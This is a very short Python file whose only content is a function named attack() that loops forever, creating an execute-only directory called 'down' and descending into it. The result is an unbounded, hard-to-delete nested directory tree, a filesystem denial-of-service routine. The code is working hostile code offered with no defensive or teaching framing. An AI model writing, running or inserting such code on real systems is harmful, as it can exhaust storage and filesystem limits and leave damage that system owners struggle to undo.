import os


def attack():
    while True:
        os.mkdir('down', 0o111)
        os.chdir('down')
